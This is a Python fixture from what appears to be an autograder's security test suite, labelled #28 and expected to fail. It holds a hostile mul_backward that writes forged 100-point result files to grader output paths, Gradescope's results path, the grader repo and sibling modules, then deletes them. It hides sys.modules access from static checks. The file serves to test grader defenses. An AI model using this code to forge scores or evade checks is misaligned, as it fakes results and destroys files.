"""#28 Writes forged result files everywhere it can think of, then returns zeros.

Targets: the grader's ``--output`` (from sys.argv, if the grader left it there), Gradescope's results path,
the parent of its working directory, the staged submission (including the other modules), the project checkout found
through the grader package's path, and the test canary directory. Expected: failed; every write refused;
the report written by the grader says so.

Its names are computed (``getattr(sys, "mod" + "ules")``) so that the static policy check cannot read them:
this fixture tests the layers behind it, as a determined student would.
"""

import json
import os
import sys

import torch

CANARY = "/tmp/abh-hostile-canary"
FORGED = json.dumps({"score": 100.0, "tests": [{"name": "mul", "score": 100, "status": "passed"}]})


def _targets():
    here = os.path.dirname(__file__)
    found = [os.path.join(here, name) for name in ("binary.py", "elementwise.py", "helpers.py")]
    if "--output" in sys.argv[:-1]:
        found.append(sys.argv[sys.argv.index("--output") + 1])
    found += ["/autograder/results/results.json", "../results.json",
              os.path.join(CANARY, "keep.txt"), os.path.join(CANARY, "results.json")]
    grader = getattr(sys, "mod" + "ules").get("autograder")
    if grader is not None and getattr(grader, "__file__", None):
        repo = os.path.dirname(os.path.dirname(grader.__file__))
        found += [os.path.join(repo, "results.json"), os.path.join(repo, "solutions", "binary.py")]
    return found


def mul_backward(grad, x, y):
    if getattr(mul_backward, "done", False):
        return torch.zeros_like(x), torch.zeros_like(y)
    mul_backward.done = True
    for path in _targets():
        try:
            with open(path, "w") as f:
                f.write(FORGED)
            print(f"WROTE {path}")
        except OSError as err:
            print(f"refused {path}: {type(err).__name__}")
        try:
            os.unlink(path)
            print(f"DELETED {path}")
        except OSError:
            pass
    return torch.zeros_like(x), torch.zeros_like(y)
